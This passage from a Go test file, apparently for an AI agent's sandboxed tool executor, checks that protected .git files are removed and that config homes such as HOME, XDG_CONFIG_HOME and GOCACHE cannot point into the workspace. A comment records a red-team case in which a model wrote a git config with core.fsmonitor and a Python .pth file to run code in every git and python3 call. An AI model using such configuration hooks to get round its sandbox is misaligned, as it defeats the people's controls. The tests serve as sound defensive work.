	if !strings.HasPrefix(res.Stdout, "done") {
		t.Fatalf("the program: %+v", res)
	}
	if b, err := os.ReadFile(conf); err == nil {
		t.Errorf("the program's vendor/lib/.git/config stayed: %q", b)
	}
	if _, ok := res.ProtectedMoved["vendor/lib/.git"]; !ok {
		t.Errorf("vendor/lib/.git is not named as moved: %v", res.ProtectedMoved)
	}
	if b, err := os.ReadFile(filepath.Join(sb.ws, "vendor", "lib2", ".git", "config")); err != nil || string(b) != "[core]\n" {
		t.Errorf("the real repository, moved with its parent: %q %v", b, err)
	}
	if !sandboxed {
		if _, err := os.Lstat(filepath.Join(sb.ws, "pkg", ".npmrc")); !os.IsNotExist(err) {
			t.Errorf("the hard link pkg/.npmrc stayed: %v", err)
		}
		if _, err := os.Stat(filepath.Join(sb.ws, ".npmrc")); err != nil {
			t.Errorf("the .npmrc that was there: %v", err)
		}
	}
}

// TestConfigHomesOutsideTheWorkspace (session 15, attack15a): a program
// takes configuration and code from its HOME and the like: with HOME the
// workspace (set_env, or env: [HOME] from an executor whose home it is),
// the model's fs.write of .config/git/config (not a protected name: only
// .gitconfig is) gave every git its core.fsmonitor, and one of
// .local/lib/python3.X/site-packages/x.pth ran in every python3
// (checked by hand); GOCACHE or GOMODCACHE there are a build cache the
// model writes. On main the executor started with such an environment;
// now it refuses to, as it refuses a program inside the workspace. A
// relative directory is the working directory's, the workspace's.
func TestConfigHomesOutsideTheWorkspace(t *testing.T) {
	ws := t.TempDir()
	t.Setenv("XCT_TEST_HOME_IN_WS", ws)
	for name, tools := range map[string]string{
		"HOME set":                 "shell:\n  set_env: {HOME: " + ws + "}\n  binaries: [{name: git}]\n",
		"HOME passed":              "shell:\n  env: [PATH, XCT_TEST_HOME_IN_WS]\n  binaries: [{name: git}]\n",
		"XDG_CONFIG_HOME below":    "shell:\n  set_env: {XDG_CONFIG_HOME: " + filepath.Join(ws, ".config") + "}\n  binaries: [{name: git}]\n",
		"relative":                 "shell:\n  set_env: {GOCACHE: .cache/go}\n  binaries: [{name: git}]\n",
		"a list":                   "shell:\n  set_env: {XDG_DATA_DIRS: /usr/share:" + ws + "/share}\n  binaries: [{name: git}]\n",
		"a stdio MCP server's":     "mcp:\n  - {name: m, command: git, set_env: {PYTHONUSERBASE: " + filepath.Join(ws, ".local") + "}}\n",
		"the workspace's own path": "shell:\n  set_env: {GIT_CONFIG_GLOBAL: " + filepath.Join(ws, "sub", "..", "gitconfig") + "}\n  binaries: [{name: git}]\n",
	} {
		text := strings.ReplaceAll(tools, "XCT_TEST_HOME_IN_WS", "HOME")
		if name == "HOME passed" {
			t.Setenv("HOME", ws)
		}
		cfg, err := ParseToolsConfig("tools.yaml", []byte(text))
		must(t, err)
		s, err := New(Config{Workspace: ws, Tools: cfg, MaxOutputBytes: 1 << 20}, nil, testLogger(t))
		if name == "HOME passed" {
			t.Setenv("HOME", "/nonexistent-home")
		}
		if err == nil {
			_ = s.Stop(context.Background())
			t.Errorf("%s: an executor whose programs' configuration home is in its workspace started", name)
			continue
		}
		if !errors.Is(err, ErrToolsConfig) || !strings.Contains(err.Error(), "in the workspace") {
			t.Errorf("%s: %v", name, err)
		}
	}
	// Outside it (a sibling whose name begins like it too), it starts.
	out := ws + "-home"
	cfg, err := ParseToolsConfig("tools.yaml", []byte("shell:\n  set_env: {HOME: "+out+", XDG_DATA_DIRS: /usr/share}\n  binaries: [{name: git}]\n"))
	must(t, err)
	s, err := New(Config{Workspace: ws, Tools: cfg, MaxOutputBytes: 1 << 20}, nil, testLogger(t))
	must(t, err)
	_ = s.Stop(context.Background())
}
